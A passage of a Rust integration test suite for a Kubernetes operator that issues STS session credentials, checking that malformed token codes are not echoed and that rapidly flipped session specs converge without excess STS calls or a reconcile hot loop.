        for canary in ["12ab56", "1234567", "１２３４５６", "٠١٢٣٤٥", &huge[..64]] {
            if text.contains(canary) {
                leaks += 1;
                println!("leak: {canary:?} in {what}");
            }
        }
    }
    ensure!(leaks == 0, "malformed codes echoed");
    check_operator(&op)?;
    summary::record(
        "badinput::token_codes",
        &[("bad_inputs", tried), ("leaks", leaks)],
    );
    Ok(())
}

/// Reconciles so far, from the operator's metrics.
async fn reconciles(op: &Operator) -> Result<f64> {
    let m = op.metrics().await?;
    m.lines()
        .find_map(|l| {
            l.strip_prefix("sts_session_reconcile_duration_seconds_count")
                .and_then(|r| r.split_whitespace().last()?.parse().ok())
        })
        .context("no reconcile count in the metrics")
}

#[tokio::test]
async fn flip_flopping_specs_converge_with_bounded_calls_and_no_hot_loop() -> Result<()> {
    let cp = control_plane().await;
    let ns = Ns::new(cp, "flipflop").await?;
    let sts = double();
    let user = sts.default_user();
    ns.create_source_secret("iam-keys", &user.access_key_id, &user.secret_access_key)
        .await?;
    let op = Operator::start(cp, &ns.name, &opts(sts.endpoint())).await?;
    ns.create_session("dur", with(json!({}))).await?;
    ns.create_session("moving", with(json!({"secret": {"name": "out-a"}})))
        .await?;
    ns.create_session("src", with(json!({}))).await?;
    for name in ["dur", "moving", "src"] {
        wait_condition(&ns, name, "Ready", "True", "Issued", T).await?;
    }
    let calls_before = sts.call_count();
    let flips = 20;
    let started = Instant::now();
    for i in 0..flips {
        let (duration, out, source) = if i % 2 == 0 {
            (1800, "out-b", "nowhere")
        } else {
            (900, "out-a", "iam-keys")
        };
        let pp = PatchParams::default();
        ns.sessions()
            .patch(
                "dur",
                &pp,
                &Patch::Merge(json!({"spec": {"durationSeconds": duration}})),
            )
            .await?;
        ns.sessions()
            .patch(
                "moving",
                &pp,
                &Patch::Merge(json!({"spec": {"secret": {"name": out}}})),
            )
            .await?;
        ns.sessions()
            .patch(
                "src",
                &pp,
                &Patch::Merge(
                    json!({"spec": {"sourceCredentials": {"secretRef": {"name": source}}}}),
                ),
            )
            .await?;
    }
    println!("{flips} flips of 3 specs in {:?}", started.elapsed());
    // Converged: the last spec observed, Ready, the session minted for it.
    for name in ["dur", "moving", "src"] {
        eventually(T, &format!("{name} converged"), || async {
            let st = ns.session(name).await?;
            let status = st.status.clone().unwrap_or_default();
            Ok((status.observed_generation == st.metadata.generation
                && cond(&st, "Ready") == ("True".into(), "Issued".into()))
                .then_some(()))
        })
        .await?;
    }
    let dur = sts
        .calls()
        .into_iter()
        .skip(calls_before)
        .filter(|c| c.outcome.is_ok())
        .count();
    let calls_during = sts.call_count() - calls_before;
    // Each flip of durationSeconds may mint once (a session must match its spec); moving the
    // Secret or flipping the source back and forth mints nothing.
    ensure!(
        calls_during <= flips,
        "{calls_during} STS calls for {flips} flips"
    );
    let moving = ns.session("moving").await?;
    ensure!(
        moving
            .status
            .as_ref()
            .and_then(|s| s.secret_name.as_deref())
            == Some("out-a")
    );
    ensure!(
        ns.secret_data("out-a").await?.is_some(),
        "the final Secret is missing"
    );
    eventually(T, "the previous output Secret deleted", || async {
        Ok(ns.secret_data("out-b").await?.is_none().then_some(()))
    })
    .await?;
    let st = ns.session("dur").await?;
    let key = st.status.as_ref().and_then(|s| s.access_key_id.clone());
    ensure!(
        sts.issued_session(key.as_deref().unwrap_or_default())
            .is_some_and(|s| s.granted_duration_seconds == 900)
    );
    // No hot loop: once converged, nothing more happens.
    let (calls, recs) = (sts.call_count(), reconciles(&op).await?);
    tokio::time::sleep(Duration::from_secs(5)).await;
    let (calls2, recs2) = (sts.call_count(), reconciles(&op).await?);
    println!(
        "flip-flop: {calls_during} STS calls ({dur} sessions) for {flips} flips; {} reconciles in the 5 s after convergence",
        recs2 - recs
    );
    ensure!(
        calls2 == calls,
        "STS calls after convergence: {}",
        calls2 - calls
    );
    ensure!(
        recs2 - recs <= 3.0,
        "{} reconciles in 5 s after convergence: a hot loop",
        recs2 - recs
    );
    check_operator(&op)?;
    summary::record("badinput::flip_flop", &[("bad_inputs", 3 * flips as u64)]);
    Ok(())
}
